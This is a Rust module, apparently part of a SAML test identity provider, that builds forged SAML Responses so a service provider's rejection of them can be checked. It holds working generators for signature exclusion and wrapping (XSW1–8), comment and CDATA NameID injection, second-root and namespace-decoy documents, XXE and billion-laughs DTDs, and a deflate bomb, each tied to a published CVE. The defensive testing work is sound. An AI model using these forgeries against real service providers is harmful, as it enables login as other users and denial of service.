//! Forged variants of a signed Response, for checks that an SP refuses them. Each function says which attack
//! family it reproduces; the module docs of [`super`] list them with their sources.
//!
//! The mutations work on the parsed tree (the `xml` module), never on string offsets, except the attacks that are
//! byte-level by nature (a DOCTYPE in front of the root, padding, a deflate stream). A signed element an attack
//! keeps is kept byte for byte.

use std::io::Write;

use base64::Engine;
use chrono::Duration;

use super::response::{random_id, resign};
use super::xml::{Document, Element, Node, Scope, escape_text};
use super::{ASSERTION_NS, DSIG_NS, IdpKey, PROTOCOL_NS, ResponseSpec, SamlIdpError};

/// A fresh ID for an attacker's element, recognisable in a report.
fn evil_id() -> String {
    format!("_evil{}", &random_id()[1..])
}

/// The index, among the root's children, of the first `saml:Assertion` child.
fn assertion_index(doc: &Document) -> Result<usize, SamlIdpError> {
    doc.root.child_index(ASSERTION_NS, "Assertion").ok_or(SamlIdpError::Missing("an Assertion in the Response"))
}

fn element_at(parent: &mut Element, index: usize) -> Result<&mut Element, SamlIdpError> {
    match parent.children.get_mut(index) {
        Some(Node::Element(e)) => Ok(e),
        _ => Err(SamlIdpError::Missing("an element")),
    }
}

/// The Subject's NameID of `assertion`.
fn name_id_of(assertion: &mut Element) -> Result<&mut Element, SamlIdpError> {
    assertion
        .child_mut(ASSERTION_NS, "Subject")
        .and_then(|s| s.child_mut(ASSERTION_NS, "NameID"))
        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))
}

/// Sets the text of the Subject's NameID of `assertion`.
fn set_name_id(assertion: &mut Element, name_id: &str) -> Result<(), SamlIdpError> {
    name_id_of(assertion)?.set_text(name_id);
    Ok(())
}

/// `signed_xml` with the first Assertion's NameID rewritten as `visible_prefix` followed by the nodes `split`
/// makes of the rest of its text (`None` when the rest cannot be written that way). Canonical XML reads the
/// nodes back as the same characters, so the signature still verifies.
fn split_name_id(
    signed_xml: &str,
    visible_prefix: &str,
    split: impl FnOnce(&str) -> Option<Vec<Node>>,
) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let index = assertion_index(&doc)?;
    let name = name_id_of(element_at(&mut doc.root, index)?)?;
    let text = name.text();
    let tail = text.strip_prefix(visible_prefix).filter(|rest| !rest.is_empty()).and_then(split).ok_or_else(|| {
        SamlIdpError::NotApplicable(format!("the NameID {text:?} does not extend {visible_prefix:?}"))
    })?;
    name.children = std::iter::once(Node::Text(escape_text(visible_prefix))).chain(tail).collect();
    Ok(doc.to_xml())
}

/// The attacker's copy of `assertion`: no signature, a fresh ID, `name_id` as the subject.
fn evil_assertion(assertion: &Element, name_id: &str) -> Result<Element, SamlIdpError> {
    let mut evil = assertion.clone();
    evil.remove_children(DSIG_NS, "Signature");
    evil.set_attr("ID", &evil_id());
    set_name_id(&mut evil, name_id)?;
    Ok(evil)
}

/// Signature exclusion: every `ds:Signature` removed. An SP that verifies a signature only when one is present
/// accepts anything (Somorovsky et al. 2012 found it in several frameworks).
pub fn unsigned(signed_xml: &str) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    if doc.root.remove_descendants(DSIG_NS, "Signature") == 0 {
        return Err(SamlIdpError::NotApplicable("the document is not signed".into()));
    }
    Ok(doc.to_xml())
}

/// Signed where the original was signed, but by `foreign`, KeyInfo still carrying the IdP's certificate: an SP
/// that verifies with the configured certificate fails the signature; one that only checks that KeyInfo names
/// the right certificate, or verifies against nothing, accepts it.
pub fn signed_by_foreign_key(signed_xml: &str, idp: &IdpKey, foreign: &IdpKey) -> Result<String, SamlIdpError> {
    resign(signed_xml, foreign, idp)
}

/// Signed by `foreign` with its own certificate in KeyInfo: an SP that verifies with the key the message
/// carries accepts any signer (CVE-2021-21239, pysaml2 letting xmlsec1 use the embedded certificate).
pub fn attacker_certificate(signed_xml: &str, foreign: &IdpKey) -> Result<String, SamlIdpError> {
    resign(signed_xml, foreign, foreign)
}

/// The NameID changed after signing, the signature left as it was: the digest no longer matches. An SP that
/// does not verify the reference digest (or verifies a copy) accepts it.
pub fn tampered_name_id(signed_xml: &str, name_id: &str) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let index = assertion_index(&doc)?;
    set_name_id(element_at(&mut doc.root, index)?, name_id)?;
    Ok(doc.to_xml())
}

/// The eight XML Signature Wrapping placements of Somorovsky, Mayer, Schwenk, Kampmann and Jensen, "On Breaking
/// SAML: Be Whoever You Want to Be" (USENIX Security 2012), as SAML Raider names them. The signed element stays
/// in the document with its ID, so a verifier that looks the Reference up by ID finds it; the attacker's
/// element (fresh `_evil…` ID, no signature, the attacker's NameID) sits where an SP that reads "the first
/// Assertion" or "the root" looks. IDs stay unique.
///
/// libxmlsec1 refuses the placements that put the signed content *inside* the signature: XSW1 and XSW6 because a
/// `ds:Signature` may hold only SignedInfo, SignatureValue, KeyInfo and Object (XML Signature §4.1), XSW8
/// because the enveloped-signature transform (§6.6.4) removes the whole signature subtree, `ds:Object`
/// included, from what the Reference digests. XSW2–5 and XSW7 still verify.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Xsw {
    /// Response signature. The root becomes the attacker's Response; the signed original (without its
    /// signature) is appended inside the root's `ds:Signature`.
    Xsw1,
    /// Response signature. As XSW1, but the signed original is a sibling just before the signature (detached).
    Xsw2,
    /// Assertion signature. The attacker's Assertion is inserted before the signed one, which stays intact.
    Xsw3,
    /// Assertion signature. The attacker's Assertion takes the signed one's place; the signed one becomes its
    /// last child, intact.
    Xsw4,
    /// Assertion signature. The Assertion in place becomes the attacker's (fresh ID, signature kept); a copy of
    /// the signed original without signature is appended to the Response.
    Xsw5,
    /// Assertion signature. As XSW5, but the original's copy goes inside the kept `ds:Signature`.
    Xsw6,
    /// Assertion signature. A `samlp:Extensions` (schema-valid before Status, lax content) holds the attacker's
    /// Assertion; the signed one stays intact.
    Xsw7,
    /// Assertion signature. As XSW6, but the original's copy goes inside a `ds:Object` of the kept signature.
    Xsw8,
}

impl Xsw {
    /// All eight, in order.
    pub const ALL: [Xsw; 8] = [Xsw::Xsw1, Xsw::Xsw2, Xsw::Xsw3, Xsw::Xsw4, Xsw::Xsw5, Xsw::Xsw6, Xsw::Xsw7, Xsw::Xsw8];

    /// `xsw1` … `xsw8`.
    pub fn name(self) -> &'static str {
        match self {
            Xsw::Xsw1 => "xsw1",
            Xsw::Xsw2 => "xsw2",
            Xsw::Xsw3 => "xsw3",
            Xsw::Xsw4 => "xsw4",
            Xsw::Xsw5 => "xsw5",
            Xsw::Xsw6 => "xsw6",
            Xsw::Xsw7 => "xsw7",
            Xsw::Xsw8 => "xsw8",
        }
    }

    /// Whether it wraps the Response's signature (else the Assertion's).
    pub fn wraps_response(self) -> bool {
        matches!(self, Xsw::Xsw1 | Xsw::Xsw2)
    }
}

/// `signed_xml` wrapped as `variant` says, the attacker claiming `evil_name_id`. XSW1–2 need a signed Response,
/// XSW3–8 a signed Assertion (the first one).
pub fn xsw(signed_xml: &str, variant: Xsw, evil_name_id: &str) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let root_scope = doc.root_scope();
    if variant.wraps_response() {
        let signature_at = doc.root.child_index(DSIG_NS, "Signature").ok_or_else(|| {
            SamlIdpError::NotApplicable(format!(
                "{} wraps a Response signature; the Response is unsigned",
                variant.name()
            ))
        })?;
        let mut original = doc.root.clone();
        original.remove_children(DSIG_NS, "Signature");
        // The root becomes the attacker's: fresh IDs, its assertions unsigned and claiming the attacker.
        doc.root.set_attr("ID", &evil_id());
        for child in &mut doc.root.children {
            if let Node::Element(e) = child
                && e.is(ASSERTION_NS, "Assertion")
            {
                *e = evil_assertion(e, evil_name_id)?;
            }
        }
        if variant == Xsw::Xsw1 {
            let signature = element_at(&mut doc.root, signature_at)?;
            original.keep_namespaces(&Scope::default(), &root_scope.inside(signature));
            signature.children.push(Node::Element(original));
        } else {
            original.keep_namespaces(&Scope::default(), &root_scope);
            doc.root.children.insert(signature_at, Node::Element(original));
        }
        return Ok(doc.to_xml());
    }

    let index = assertion_index(&doc)?;
    let original = element_at(&mut doc.root, index)?.clone();
    if original.child(DSIG_NS, "Signature").is_none() {
        return Err(SamlIdpError::NotApplicable(format!(
            "{} wraps an Assertion signature; the Assertion is unsigned",
            variant.name()
        )));
    }
    let mut stripped = original.clone();
    stripped.remove_children(DSIG_NS, "Signature");
    let mut evil = evil_assertion(&original, evil_name_id)?;
    match variant {
        Xsw::Xsw3 => doc.root.children.insert(index, Node::Element(evil)),
        Xsw::Xsw4 => {
            let mut signed = original;
            signed.keep_namespaces(&root_scope, &root_scope.inside(&evil));
            evil.children.push(Node::Element(signed));
            doc.root.children[index] = Node::Element(evil);
        }
        Xsw::Xsw5 | Xsw::Xsw6 | Xsw::Xsw8 => {
            // The element in place keeps the signature but becomes the attacker's.
            let in_place = element_at(&mut doc.root, index)?;
            in_place.set_attr("ID", &evil_id());
            set_name_id(in_place, evil_name_id)?;
            let in_place_scope = root_scope.inside(in_place);
            match variant {
                Xsw::Xsw5 => {
                    doc.root.children.push(Node::Element(stripped));
                }
                Xsw::Xsw6 => {
                    let signature =
                        in_place.child_mut(DSIG_NS, "Signature").ok_or(SamlIdpError::Missing("the signature"))?;
                    stripped.keep_namespaces(&root_scope, &in_place_scope.inside(signature));
                    signature.children.push(Node::Element(stripped));
                }
                _ => {
                    let signature =
                        in_place.child_mut(DSIG_NS, "Signature").ok_or(SamlIdpError::Missing("the signature"))?;
                    let object = Element::new("ds:Object", DSIG_NS).with_attr("xmlns:ds", DSIG_NS);
                    let object_scope = in_place_scope.inside(signature).inside(&object);
                    stripped.keep_namespaces(&root_scope, &object_scope);
                    signature.children.push(Node::Element(object.with_child(stripped)));
                }
            }
        }
        Xsw::Xsw7 => {
            let extensions = Element::new("samlp:Extensions", PROTOCOL_NS).with_attr("xmlns:samlp", PROTOCOL_NS);
            evil.keep_namespaces(&root_scope, &root_scope.inside(&extensions));
            let at = doc.root.child_index(PROTOCOL_NS, "Status").unwrap_or(index);
            doc.root.children.insert(at, Node::Element(extensions.with_child(evil)));
        }
        Xsw::Xsw1 | Xsw::Xsw2 => {}
    }
    Ok(doc.to_xml())
}

/// A second, unsigned Assertion (fresh ID, `evil_name_id` as subject) right after the signed one: an SP that
/// verifies one assertion and reads another accepts the attacker (CVE-2022-41912, crewjam/saml and several
/// Assertion elements).
pub fn duplicate_assertion(signed_xml: &str, evil_name_id: &str) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let index = assertion_index(&doc)?;
    let evil = evil_assertion(element_at(&mut doc.root, index)?, evil_name_id)?;
    doc.root.children.insert(index + 1, Node::Element(evil));
    Ok(doc.to_xml())
}

/// An empty comment inside the signed NameID right after `visible_prefix`, e.g. `admin@corp.example` +
/// `<!---->` + `.evil.example` for a user who registered `admin@corp.example.evil.example`. Exclusive C14N
/// drops comments, so the signature still verifies; an SP that reads only the first text node logs in
/// `admin@corp.example` (Duo Labs 2018: CVE-2017-11427 python-saml, CVE-2017-11428 ruby-saml, CVE-2017-11429
/// saml2-js, CVE-2017-11430 OmniAuth-SAML).
pub fn comment_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<String, SamlIdpError> {
    split_name_id(signed_xml, visible_prefix, |rest| {
        Some(vec![Node::Comment(String::new()), Node::Text(escape_text(rest))])
    })
}

/// The signed NameID split into text and a CDATA section right after `visible_prefix`: `admin@corp.example` +
/// `<![CDATA[.evil.example]]>`. Canonical XML replaces CDATA sections by their characters (C14N 1.0 §1.1,
/// Exclusive C14N §1), so the signature over `admin@corp.example.evil.example` still verifies; an SP that reads
/// only the first text node logs in `admin@corp.example` — the comment-injection family of CVE-2017-11427, through
/// a node type an SP that only strips comments misses.
pub fn cdata_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<String, SamlIdpError> {
    // A CDATA section cannot hold its own end marker.
    split_name_id(signed_xml, visible_prefix, |rest| {
        (!rest.contains("]]>")).then(|| vec![Node::CData(rest.to_owned())])
    })
}

/// Two root elements: the attacker's signed Assertion on its own (its namespaces declared on it, so exclusive
/// C14N digests the same bytes), then the Response with every signature removed and its Assertion claiming
/// `evil_name_id`. A well-formed document has exactly one root (XML 1.0 §2.1); a parser that keeps going after
/// the first lets an SP verify one root and read the other (CVE-2022-39299 passport-saml with xmldom before
/// 0.7.7, CVE-2022-39353).
pub fn second_root(signed_xml: &str, evil_name_id: &str) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let root_scope = doc.root_scope();
    let index = assertion_index(&doc)?;
    let mut signed = element_at(&mut doc.root, index)?.clone();
    if signed.child(DSIG_NS, "Signature").is_none() {
        return Err(SamlIdpError::NotApplicable("the Assertion is unsigned".into()));
    }
    signed.keep_namespaces(&root_scope, &Scope::default());
    let evil = evil_assertion(element_at(&mut doc.root, index)?, evil_name_id)?;
    doc.root.children[index] = Node::Element(evil);
    doc.root.remove_descendants(DSIG_NS, "Signature");
    doc.root.set_attr("ID", &evil_id());
    Ok(format!("{}{}", signed.to_xml(), doc.root.to_xml()))
}

/// The namespace of [`foreign_namespace_assertion`]'s decoy: the SAML assertion namespace with a suffix.
pub const DECOY_NS: &str = "urn:oasis:names:tc:SAML:2.0:assertion:decoy";

/// An unsigned copy of the signed Assertion claiming `evil_name_id`, renamed into another namespace
/// ([`DECOY_NS`]) and put first. Element identity is namespace name plus local name (Namespaces in XML 1.0 §2.1),
/// so the SP's one Assertion is still the signed one; an SP that finds elements by local name alone (an XPath of
/// `local-name()`, a DOM walk comparing tag suffixes) reads the decoy.
pub fn foreign_namespace_assertion(signed_xml: &str, evil_name_id: &str) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let index = assertion_index(&doc)?;
    let mut decoy = evil_assertion(element_at(&mut doc.root, index)?, evil_name_id)?;
    decoy.name = "decoy:Assertion".into();
    decoy.ns = Some(DECOY_NS.into());
    decoy.attrs.push(("xmlns:decoy".into(), DECOY_NS.into()));
    doc.root.children.insert(index, Node::Element(decoy));
    Ok(doc.to_xml())
}

/// A document type declaration put in front of the root, its entity referenced from the NameID.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Dtd {
    /// An internal entity whose replacement text is the NameID itself, so a parser that expands it still digests
    /// the signed bytes: only refusing the DOCTYPE refuses this one.
    InternalEntity,
    /// An external entity (XXE, CWE-611): a parser that resolves it reads `system` (a file path, or a URL the
    /// check watches).
    ExternalEntity {
        /// The SYSTEM identifier.
        system: String,
    },
    /// Nested entities that expand to 10^`depth` copies of `lol` ("billion laughs", CWE-776; CVE-2003-1564).
    BillionLaughs {
        /// Nesting depth (9 gives 10^9 copies).
        depth: u32,
    },
}

/// An entity value literal for `text`, so that its replacement text, once referenced in content, reads as `text`
/// (XML 1.0 Appendix D: markup characters need a doubly escaped reference).
fn entity_value(text: &str) -> String {
    text.replace('&', "&#38;#38;").replace('<', "&#38;#60;").replace('%', "&#37;").replace('"', "&#34;")
}

/// `signed_xml` with a DOCTYPE, the first Assertion's NameID replaced by a reference to its entity. A SAML
/// message has no use for a DTD, so the SP should refuse any before parsing.
pub fn doctype(signed_xml: &str, dtd: &Dtd) -> Result<String, SamlIdpError> {
    let mut doc = Document::parse(signed_xml)?;
    let index = assertion_index(&doc)?;
    let name = name_id_of(element_at(&mut doc.root, index)?)?;
    let (entities, reference) = match dtd {
        Dtd::InternalEntity => (format!(r#"<!ENTITY idc "{}">"#, entity_value(&name.text())), "idc".to_owned()),
        Dtd::ExternalEntity { system } => {
            (format!(r#"<!ENTITY idc SYSTEM "{}">"#, system.replace('"', "%22")), "idc".to_owned())
        }
        Dtd::BillionLaughs { depth } => {
            let mut entities = String::from(r#"<!ENTITY lol0 "lol">"#);
            for level in 1..=*depth {
                let body: String = (0..10).map(|_| format!("&lol{};", level - 1)).collect();
                entities.push_str(&format!(r#"<!ENTITY lol{level} "{body}">"#));
            }
            (entities, format!("lol{depth}"))
        }
    };
    name.children = vec![Node::Text(format!("&{reference};"))];
    let declaration = if doc.prolog.trim_start().starts_with("<?xml") { doc.prolog.clone() } else { String::new() };
    doc.prolog = format!("{declaration}<!DOCTYPE {} [{entities}]>", doc.root.name);
    Ok(doc.to_xml())
}

/// `signed_xml` padded to exactly `total_bytes` with a comment after the root element: still well-formed and
/// still validly signed, so only a size cap refuses it (resource exhaustion, CWE-400).
pub fn oversized(signed_xml: &str, total_bytes: usize) -> Result<String, SamlIdpError> {
    const WRAPPER: usize = "<!---->".len();
    let padding = total_bytes.checked_sub(signed_xml.len() + WRAPPER).ok_or_else(|| {
        SamlIdpError::NotApplicable(format!("{total_bytes} bytes is not more than the document's {}", signed_xml.len()))
    })?;
    let mut out = String::with_capacity(total_bytes);
    out.push_str(signed_xml);
    out.push_str("<!--");
    out.extend(std::iter::repeat_n('A', padding));
    out.push_str("-->");
    Ok(out)
}

/// The HTTP-Redirect binding's encoding of a message (SAML Bindings §3.4.4.1): raw DEFLATE (RFC 1951), then
/// base64; the caller URL-encodes it into `SAMLRequest` or `SAMLResponse`.
pub fn redirect_encode(xml: &str) -> Result<String, SamlIdpError> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(xml.as_bytes()).map_err(SamlIdpError::Deflate)?;
    let deflated = encoder.finish().map_err(SamlIdpError::Deflate)?;
    Ok(base64::engine::general_purpose::STANDARD.encode(deflated))
}

/// A Redirect-binding value (deflated, base64) that inflates to `inflated_bytes` of a LogoutRequest padded with
/// spaces: about a thousandth of the size on the wire (a decompression bomb, CWE-409). An SP must bound what it
/// inflates.
pub fn deflate_bomb(inflated_bytes: usize) -> Result<String, SamlIdpError> {
    let head = format!(
        r#"<samlp:LogoutRequest xmlns:samlp="{PROTOCOL_NS}" xmlns:saml="{ASSERTION_NS}" ID="{}" Version="2.0" IssueInstant="2026-01-01T00:00:00.000Z">"#,
        evil_id()
    );
    let tail = "</samlp:LogoutRequest>";
    let padding = inflated_bytes.saturating_sub(head.len() + tail.len());
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(head.as_bytes()).map_err(SamlIdpError::Deflate)?;
    let chunk = vec![b' '; 64 * 1024];
    let mut left = padding;
    while left > 0 {
        let n = left.min(chunk.len());
        encoder.write_all(&chunk[..n]).map_err(SamlIdpError::Deflate)?;
        left -= n;
    }
    encoder.write_all(tail.as_bytes()).map_err(SamlIdpError::Deflate)?;
    let deflated = encoder.finish().map_err(SamlIdpError::Deflate)?;
    Ok(base64::engine::general_purpose::STANDARD.encode(deflated))
}

// --- condition cases: valid signatures over wrong values (a spec variation, signed normally) ---

/// An entity ID no SP or IdP under test has.
pub const OTHER_ENTITY: &str = "https://other.example.invalid/metadata";
/// A URL no SP under test serves.
pub const OTHER_URL: &str = "https://other.example.invalid/saml/acs";

/// Expired exactly at the skew boundary: NotOnOrAfter (Conditions and confirmation) at `now - skew`, which an SP
/// allowing `skew` must refuse, NotOnOrAfter being exclusive (SAML Core §2.5.1.2, Profiles §4.1.4.2).
pub fn expired(spec: &ResponseSpec, skew: Duration) -> ResponseSpec {
    let until = spec.now - skew;
    spec.clone()
        .not_on_or_after(until)
        .not_before(until - Duration::minutes(5))
        .issue_instant(until - Duration::minutes(5))
}

/// The last accepted instant: NotOnOrAfter at `now - skew + 1 s` (the positive control of [`expired`]).
pub fn last_valid_second(spec: &ResponseSpec, skew: Duration) -> ResponseSpec {
    let until = spec.now - skew + Duration::seconds(1);
    spec.clone()
        .not_on_or_after(until)
        .not_before(until - Duration::minutes(5))
        .issue_instant(until - Duration::minutes(5))
}

/// Not yet valid just beyond the skew: NotBefore at `now + skew + 1 s` (SAML Core §2.5.1.2).
pub fn not_yet_valid(spec: &ResponseSpec, skew: Duration) -> ResponseSpec {
    let from = spec.now + skew + Duration::seconds(1);
    spec.clone().not_before(from).not_on_or_after(from + Duration::minutes(5))
}

/// Valid exactly at the skew boundary: NotBefore at `now + skew`, which an SP allowing `skew` accepts (the
/// positive control of [`not_yet_valid`]).
pub fn at_not_before_boundary(spec: &ResponseSpec, skew: Duration) -> ResponseSpec {
    let from = spec.now + skew;
    spec.clone().not_before(from).not_on_or_after(from + Duration::minutes(5))
}

/// Another SP's Audience (SAML Core §2.5.1.4).
pub fn wrong_audience(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().audience(Some(OTHER_ENTITY))
}

/// No AudienceRestriction at all (SAML Profiles §4.1.4.2 requires one for bearer assertions).
pub fn missing_audience(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().audience(None::<String>)
}

/// Another ACS as the bearer confirmation's Recipient (SAML Profiles §4.1.4.2).
pub fn wrong_recipient(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().recipient(Some(OTHER_URL))
}

/// Another ACS as the Response's Destination (SAML Bindings §3.5.5.2).
pub fn wrong_destination(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().destination(Some(OTHER_URL))
}

/// Another IdP as Issuer, still signed by the real IdP's key (SAML Profiles §4.1.4.2).
pub fn wrong_issuer(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().issuer(OTHER_ENTITY)
}

/// Status Responder / AuthnFailed with a valid signed assertion inside: only Success logs in (SAML Core
/// §3.2.2.2).
pub fn non_success_status(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().status(super::STATUS_RESPONDER).sub_status(Some("urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"))
}

/// InResponseTo naming a request the SP never sent (SAML Profiles §4.1.4.3).
pub fn wrong_in_response_to(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().in_response_to(Some(random_id()))
}

/// A second Response to the same request: fresh IDs, same InResponseTo. Send after `spec` was accepted; a request
/// is answered once (SAML Profiles §4.1.4.5).
pub fn reused_in_response_to(spec: &ResponseSpec) -> ResponseSpec {
    spec.clone().with_fresh_ids()
}
